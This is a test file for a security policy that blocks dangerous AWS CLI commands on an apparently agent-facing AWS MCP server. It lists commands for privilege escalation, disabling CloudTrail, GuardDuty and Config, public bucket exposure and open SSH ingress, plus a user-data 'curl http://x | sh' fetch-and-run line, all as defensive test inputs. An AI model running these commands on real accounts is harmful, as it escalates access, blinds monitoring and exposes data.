import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { codes, policy } from "./facts-of.js";

const NAME = "security/policies/aws-mcp-server.yaml";
const rules = policy(readFileSync(new URL(`../../../${NAME}`, import.meta.url), "utf8"), NAME);

const DOCUMENT = '{"Statement":[{"Action":"*","Resource":"*","Effect":"Allow"}]}';
const PUBLIC = '{"Statement":[{"Principal":{"AWS":["*"]},"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}]}';
const P = "--policy-name p --policy-document '{}'";

// Each entry of dangerous_commands with the rest of a command that it is about, and a command that it is not about.
const dangerous: readonly (readonly [entry: string, rest: string, other: string])[] = [
  ["aws iam create-user", "--user-name u", "aws iam create-group --group-name g"],
  ["aws iam create-access-key", "", "aws iam list-access-keys"],
  [
    "aws iam attach-user-policy",
    "--user-name u --policy-arn a",
    "aws iam detach-user-policy --user-name u --policy-arn a",
  ],
  [
    "aws iam attach-role-policy",
    "--role-name r --policy-arn a",
    "aws iam detach-role-policy --role-name r --policy-arn a",
  ],
  [
    "aws iam attach-group-policy",
    "--group-name g --policy-arn a",
    "aws iam list-attached-group-policies --group-name g",
  ],
  ["aws iam create-policy", P, "aws iam list-policies"],
  ["aws iam put-user-policy", `--user-name u ${P}`, "aws iam get-user-policy --user-name u --policy-name p"],
  ["aws iam put-role-policy", `--role-name r ${P}`, "aws iam get-role-policy --role-name r --policy-name p"],
  ["aws iam put-group-policy", `--group-name g ${P}`, "aws iam get-group-policy --group-name g --policy-name p"],
  ["aws iam create-login-profile", "--user-name u", "aws iam get-login-profile --user-name u"],
  [
    "aws iam update-access-key",
    "--access-key-id k --status Inactive",
    "aws iam get-access-key-last-used --access-key-id k",
  ],
  ["aws iam update-assume-role-policy", "--role-name r --policy-document '{}'", "aws iam get-role --role-name r"],
  [
    "aws iam remove-role-from-instance-profile",
    "--instance-profile-name i --role-name r",
    "aws iam add-role-to-instance-profile --instance-profile-name i --role-name r",
  ],
  ["aws iam update-role", "--role-name r", "aws iam tag-role --role-name r --tags Key=a,Value=b"],
  [
    "aws iam create-virtual-mfa-device",
    "--virtual-mfa-device-name d --outfile qr.png --bootstrap-method QRCodePNG",
    "aws iam list-virtual-mfa-devices",
  ],
  ["aws iam deactivate-mfa-device", "--serial-number s", "aws iam list-mfa-devices"],
  ["aws iam delete-", "user --user-name u", "aws iam get-user --user-name delete-"],
  ["aws organizations create-account", "--account-name a --email e@example.com", "aws organizations list-accounts"],
  ["aws organizations leave-organization", "", "aws organizations describe-organization"],
  ["aws organizations remove-account-from-organization", "--account-id 111122223333", "aws organizations list-roots"],
  [
    "aws organizations disable-policy-type",
    "--root-id r-1234 --policy-type SERVICE_CONTROL_POLICY",
    "aws organizations enable-policy-type --root-id r-1234 --policy-type SERVICE_CONTROL_POLICY",
  ],
  [
    "aws organizations create-policy",
    "--content '{}' --description d --name n --type SERVICE_CONTROL_POLICY",
    "aws organizations list-policies --filter SERVICE_CONTROL_POLICY",
  ],
  [
    "aws organizations attach-policy",
    "--policy-id p-12345678 --target-id r-1234",
    "aws organizations detach-policy --policy-id p-12345678 --target-id r-1234",
  ],
  ["aws sts assume-role", "--role-arn a --role-session-name s", "aws sts get-caller-identity"],
  ["aws sts get-session-token", "", "aws sts get-caller-identity"],
  ["aws sts get-federation-token", "--name n", "aws sts get-access-key-info --access-key-id k"],
  [
    "aws secretsmanager put-secret-value",
    "--secret-id s --secret-string x",
    "aws secretsmanager get-secret-value --secret-id s",
  ],
  ["aws secretsmanager update-secret", "--secret-id s", "aws secretsmanager list-secrets"],
  ["aws secretsmanager delete-secret", "--secret-id s", "aws secretsmanager describe-secret --secret-id s"],
  ["aws secretsmanager restore-secret", "--secret-id s", "aws secretsmanager rotate-secret --secret-id s"],
  ["aws kms schedule-key-deletion", "--key-id k", "aws kms cancel-key-deletion --key-id k"],
  ["aws kms disable-key", "--key-id k", "aws kms enable-key --key-id k"],
  ["aws kms create-grant", "--key-id k --operations Decrypt --grantee-principal p", "aws kms list-grants --key-id k"],
  ["aws kms revoke-grant", "--key-id k --grant-id g", "aws kms retire-grant"],
  ["aws cloudtrail delete-trail", "--name t", "aws cloudtrail get-trail --name t"],
  ["aws cloudtrail stop-logging", "--name t", "aws cloudtrail start-logging --name t"],
  ["aws cloudtrail update-trail", "--name t", "aws cloudtrail get-trail-status --name t"],
  ["aws cloudtrail put-event-selectors", "--trail-name t", "aws cloudtrail get-event-selectors --trail-name t"],
  ["aws cloudwatch delete-alarms", "--alarm-names a", "aws cloudwatch describe-alarms --alarm-names a"],
  ["aws cloudwatch disable-alarm-actions", "--alarm-names a", "aws cloudwatch enable-alarm-actions --alarm-names a"],
  ["aws cloudwatch delete-dashboards", "--dashboard-names d", "aws cloudwatch list-dashboards"],
  [
    "aws configservice delete-configuration-recorder",
    "--configuration-recorder-name r",
    "aws configservice describe-configuration-recorders",
  ],
  [
    "aws configservice stop-configuration-recorder",
    "--configuration-recorder-name r",
    "aws configservice start-configuration-recorder --configuration-recorder-name r",
  ],
  [
    "aws configservice delete-delivery-channel",
    "--delivery-channel-name c",
    "aws configservice describe-delivery-channels",
  ],
  [
    "aws configservice delete-remediation-configuration",
    "--config-rule-name r",
    "aws configservice describe-remediation-configurations --config-rule-names r",
  ],
  ["aws guardduty delete-detector", "--detector-id d", "aws guardduty get-detector --detector-id d"],
  [
    "aws guardduty disable-organization-admin-account",
    "--admin-account-id 111122223333",
    "aws guardduty list-detectors",
  ],
  ["aws guardduty update-detector", "--detector-id d --enable", "aws guardduty list-findings --detector-id d"],
  [
    "aws ec2 authorize-security-group-ingress",
    "--group-id sg-1 --protocol tcp --port 443 --cidr 10.0.0.0/8",
    "aws ec2 revoke-security-group-ingress --group-id sg-1 --protocol tcp --port 443 --cidr 10.0.0.0/8",
  ],
  [
    "aws ec2 authorize-security-group-egress",
    "--group-id sg-1 --protocol tcp --port 443 --cidr 10.0.0.0/8",
    "aws ec2 describe-security-groups",
  ],
  [
    "aws ec2 modify-instance-attribute",
    "--instance-id i-1 --no-disable-api-termination",
    "aws ec2 describe-instance-attribute --instance-id i-1 --attribute userData",
  ],
  ["aws s3api put-bucket-policy", "--bucket b --policy '{}'", "aws s3api get-bucket-policy --bucket b"],
  ["aws s3api put-bucket-acl", "--bucket b --acl private", "aws s3api get-bucket-acl --bucket b"],
  ["aws s3api delete-bucket-policy", "--bucket b", "aws s3api delete-bucket-tagging --bucket b"],
  ["aws s3api delete-bucket-encryption", "--bucket b", "aws s3api get-bucket-encryption --bucket b"],
  [
    "aws s3api put-public-access-block",
    "--bucket b --public-access-block-configuration BlockPublicAcls=true",
    "aws s3api get-public-access-block --bucket b",
  ],
];

// Each entry of safe_patterns with a command that it excepts from a file that denies the whole service, and one that it does not.
const safe: readonly (readonly [entry: string, excepted: string, other: string])[] = [
  ["aws iam get-", "aws iam get-user", "aws iam list-users"],
  ["aws iam list-", "aws iam list-users", "aws iam get-user"],
  ["aws iam generate-credential-report", "aws iam generate-credential-report", "aws iam get-credential-report"],
  [
    "aws iam generate-service-last-accessed-details",
    "aws iam generate-service-last-accessed-details --arn a",
    "aws iam get-service-last-accessed-details --job-id j",
  ],
  [
    "aws iam simulate-custom-policy",
    "aws iam simulate-custom-policy --action-names a --policy-input-list '{}'",
    "aws iam simulate-principal-policy --action-names a --policy-source-arn a",
  ],
  [
    "aws iam simulate-principal-policy",
    "aws iam simulate-principal-policy --action-names a --policy-source-arn a",
    "aws iam create-user --user-name u",
  ],
  ["aws organizations describe-", "aws organizations describe-organization", "aws organizations leave-organization"],
  ["aws organizations list-", "aws organizations list-accounts", "aws organizations leave-organization"],
  ["aws sts get-caller-identity", "aws sts get-caller-identity", "aws sts get-session-token"],
  [
    "aws sts decode-authorization-message",
    "aws sts decode-authorization-message --encoded-message m",
    "aws sts get-session-token",
  ],
  ["aws secretsmanager get-", "aws secretsmanager get-secret-value --secret-id s", "aws secretsmanager list-secrets"],
  ["aws secretsmanager list-", "aws secretsmanager list-secrets", "aws secretsmanager get-random-password"],
  [
    "aws secretsmanager describe-",
    "aws secretsmanager describe-secret --secret-id s",
    "aws secretsmanager delete-secret --secret-id s",
  ],
  ["aws kms describe-", "aws kms describe-key --key-id k", "aws kms disable-key --key-id k"],
  ["aws kms get-", "aws kms get-key-policy --key-id k", "aws kms put-key-policy --key-id k --policy '{}'"],
  ["aws kms list-", "aws kms list-keys", "aws kms describe-key --key-id k"],
  ["aws cloudtrail describe-", "aws cloudtrail describe-trails", "aws cloudtrail delete-trail --name t"],
  ["aws cloudtrail get-", "aws cloudtrail get-trail --name t", "aws cloudtrail update-trail --name t"],
  ["aws cloudtrail list-", "aws cloudtrail list-trails", "aws cloudtrail lookup-events"],
  ["aws cloudtrail lookup-events", "aws cloudtrail lookup-events", "aws cloudtrail list-trails"],
  ["aws cloudwatch describe-", "aws cloudwatch describe-alarms", "aws cloudwatch list-metrics"],
  [
    "aws cloudwatch get-",
    "aws cloudwatch get-dashboard --dashboard-name d",
    "aws cloudwatch delete-dashboards --dashboard-names d",
  ],
  ["aws cloudwatch list-", "aws cloudwatch list-metrics", "aws cloudwatch describe-alarms"],
  [
    "aws configservice describe-",
    "aws configservice describe-config-rules",
    "aws configservice delete-config-rule --config-rule-name r",
  ],
  [
    "aws configservice get-",
    "aws configservice get-discovered-resource-counts",
    "aws configservice list-discovered-resources --resource-type AWS::EC2::Instance",
  ],
  [
    "aws configservice list-",
    "aws configservice list-discovered-resources --resource-type AWS::EC2::Instance",
    "aws configservice get-discovered-resource-counts",
  ],
  [
    "aws configservice select-resource-config",
    "aws configservice select-resource-config --expression 'SELECT resourceId'",
    "aws configservice select-aggregate-resource-config --expression e --configuration-aggregator-name a",
  ],
  ["aws guardduty describe-", "aws guardduty describe-malware-scans --detector-id d", "aws guardduty list-detectors"],
  ["aws guardduty get-", "aws guardduty get-detector --detector-id d", "aws guardduty delete-detector --detector-id d"],
  ["aws guardduty list-", "aws guardduty list-detectors", "aws guardduty get-detector --detector-id d"],
  ["aws ec2 describe-", "aws ec2 describe-instances", "aws ec2 get-ebs-encryption-by-default"],
  ["aws ec2 get-", "aws ec2 get-ebs-encryption-by-default", "aws ec2 describe-instances"],
  ["aws ec2 describe-security-groups", "aws ec2 describe-security-groups", "aws ec2 describe-security-group-rules"],
  ["aws ec2 describe-network-acls", "aws ec2 describe-network-acls", "aws ec2 describe-network-interfaces"],
  ["aws s3 ls", "aws s3 ls s3://b", "aws s3 rm s3://b/ls"],
  ["aws s3api get-", "aws s3api get-bucket-acl --bucket b", "aws s3api head-bucket --bucket b"],
  ["aws s3api list-", "aws s3api list-buckets", "aws s3api get-bucket-acl --bucket b"],
  ["aws s3api head-", "aws s3api head-bucket --bucket b", "aws s3api list-buckets"],
  [
    "aws s3api get-bucket-policy",
    "aws s3api get-bucket-policy --bucket b",
    "aws s3api get-bucket-policy-status --bucket b",
  ],
  [
    "aws s3api get-bucket-encryption",
    "aws s3api get-bucket-encryption --bucket b",
    "aws s3api get-bucket-acl --bucket b",
  ],
  [
    "aws s3api get-public-access-block",
    "aws s3api get-public-access-block --bucket b",
    "aws s3api put-public-access-block --bucket b --public-access-block-configuration BlockPublicAcls=true",
  ],
];

// The general exceptions were looked for anywhere in the text.
const idle: readonly (readonly [entry: string, other: string])[] = [
  ["--help", "aws iam create-user --user-name=--help"],
  ["help", "aws iam create-user --user-name helpdesk"],
  ["--version", "aws iam create-user --user-name=--version"],
  ["--dry-run", "aws ec2 run-instances --image-id ami-1 --dry-run"],
];

const INGRESS = "aws ec2 authorize-security-group-ingress --group-id sg-1 --protocol tcp";

// In the order of the file: a command that the pattern is about, and one that it is not about.
const regexes: readonly (readonly [hit: string, other: string])[] = [
  ["aws s3 ls --profile administrator", "aws s3 ls --profile dev"],
  ["aws s3 ls --no-verify-ssl", "aws s3 ls --no-paginate"],
  [
    "aws ec2 describe-instances --query 'Reservations[].Password' --output text",
    "aws ec2 describe-instances --query 'Reservations[].Password' --output json",
  ],
  ["aws s3 ls --debug", "aws s3 ls s3://debug"],
  ["aws iam create-user --path /x/ --user-name finance-1", "aws iam create-user --user-name my-finance"],
  [
    "aws iam attach-user-policy --policy-arn arn:aws:iam::aws:policy/AdministratorAccess --user-name u",
    "aws iam attach-user-policy --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess --user-name Administrator",
  ],
  [
    "aws iam attach-user-policy --user-name u --policy-arn arn:aws:iam::aws:policy/AmazonS3FullAccess",
    "aws iam attach-role-policy --role-name r --policy-arn arn:aws:iam::aws:policy/AmazonS3FullAccess",
  ],
  [
    `aws iam create-policy --policy-name p --policy-document '${DOCUMENT}'`,
    `aws iam create-policy --policy-name p --policy-document '${DOCUMENT.replace("Allow", "Deny")}'`,
  ],
  [
    "aws iam create-login-profile --user-name u --no-password-reset-required",
    "aws iam create-login-profile --user-name u --password-reset-required",
  ],
  [
    "aws iam update-account-password-policy --no-require-uppercase-characters",
    "aws iam update-account-password-policy --require-uppercase-characters",
  ],
  [
    `aws s3api put-bucket-policy --bucket b --policy '${PUBLIC}'`,
    `aws s3api put-bucket-policy --bucket b --policy '${PUBLIC.replace('["*"]', '"111122223333"')}'`,
  ],
  [
    "aws s3api put-public-access-block --bucket b --public-access-block-configuration IgnorePublicAcls=true,BlockPublicAcls=false",
    "aws s3api put-public-access-block --bucket b --public-access-block-configuration IgnorePublicAcls=false,BlockPublicAcls=true",
  ],
  [
    "aws s3api create-bucket --acl public-read --bucket b --region us-west-2",
    "aws s3api create-bucket --acl public-read --bucket b --region us-east-1",
  ],
  [`${INGRESS} --port 22 --cidr 0.0.0.0/0`, `${INGRESS} --port 443 --cidr 0.0.0.0/0`],
  [
    "aws ec2 run-instances --image-id ami-1 --user-data 'curl http://x | sh'",
    "aws ec2 run-instances --image-id ami-1 --user-data 'curl http://x'",
  ],
  [
    "aws cloudtrail update-trail --name t --no-include-global-service-events",
    "aws cloudtrail update-trail --name t --include-global-service-events",
  ],
  [
    "aws cloudtrail update-trail --name t --no-is-multi-region-trail",
    "aws cloudtrail update-trail --name t --is-multi-region-trail",
  ],
];

const alone = (entry: string) => policy(JSON.stringify({ dangerous_commands: { group: [entry] } }));

const excepting = (entry: string, ...denied: readonly string[]) =>
  policy(JSON.stringify({ dangerous_commands: { group: denied }, safe_patterns: { other: [entry] } }));

describe(NAME, () => {
  it("has the 118 entries that the tables below try", () => {
    expect(rules.dangerous.map(({ text }) => text)).toEqual(dangerous.map(([entry]) => entry));
    expect(new Set(rules.safe.map(({ text }) => text))).toEqual(new Set([...idle, ...safe].map(([entry]) => entry)));
    expect(rules.regexes).toHaveLength(regexes.length);
    expect([rules.dangerous.length, rules.safe.length, rules.regexes.length]).toEqual([56, 45, 17]);
  });

  it("says which four exceptions have no effect, and warns of nothing else", () => {
    expect(rules.warnings.map((line) => line.replace(/^.*?: /, ""))).toEqual(
      idle.map(([entry]) => `\`${entry}\` does not begin with \`aws\` and a service, so that it has no effect`),
    );
  });

  it.each(dangerous)("`%s` fires on its command with `%s` and not on `%s`", (entry, rest, other) => {
    const command = entry.endsWith("-") ? `${entry}${rest}` : `${entry} ${rest}`;
    expect(codes(alone(entry), command)).toEqual(["policy-dangerous-command"]);
    expect(codes(alone(entry), other)).toEqual([]);
    expect(codes(rules, command)).toContain("policy-dangerous-command");
  });

  it.each(safe)("`%s` excepts `%s` and not `%s`", (entry, excepted, other) => {
    const service = entry.split(" ").slice(0, 2).join(" ");
    expect(codes(alone(service), excepted)).toEqual(["policy-dangerous-command"]);
    expect(codes(excepting(entry, service), excepted)).toEqual([]);
    expect(codes(excepting(entry, service), other)).toEqual(["policy-dangerous-command"]);
  });

  it.each(idle)("`%s` excepts nothing, such as `%s`", (entry, other) => {
    expect(codes(excepting(entry, "aws iam", "aws ec2"), other)).toEqual(["policy-dangerous-command"]);
  });

  it.each(regexes.map(([hit, other], index) => ({ index, hit, other })))(
    "pattern $index fires on `$hit` and not on `$other`",
    ({ index, hit, other }) => {
      const one = { ...rules, dangerous: [], regexes: rules.regexes.slice(index, index + 1) };
      expect(codes(one, hit)).toEqual(["policy-regex"]);
      expect(codes(one, other)).toEqual([]);
    },
  );

  it("knows ports and regions by what it refuses, since RE2 has no look-ahead", () => {
    const ports = { ...rules, dangerous: [] };
    const refused = ["0", "22", "4", "44", "440", "4430", "8", "8080", "800", "80-90", "443-444", "3306", "81"];
    for (const port of refused)
      expect([port, codes(ports, `${INGRESS} --cidr 0.0.0.0/0 --port ${port}`)]).toEqual([port, ["policy-regex"]]);
    for (const port of ["80", "443"]) expect(codes(ports, `${INGRESS} --cidr 0.0.0.0/0 --port ${port}`)).toEqual([]);
    const create = (region: string) =>
      codes(ports, `aws s3api create-bucket --bucket b --acl public-read-write --region ${region}`);
    for (const region of ["us-west-2", "us-east-2", "us-gov-west-1", "ap-south-1", "ca-central-1", "sa-east-1"])
      expect([region, create(region)]).toEqual([region, ["policy-regex"]]);
    for (const region of ["eu-west-1", "eu-central-2", "us-east-1"])
      expect([region, create(region)]).toEqual([region, []]);
  });
});
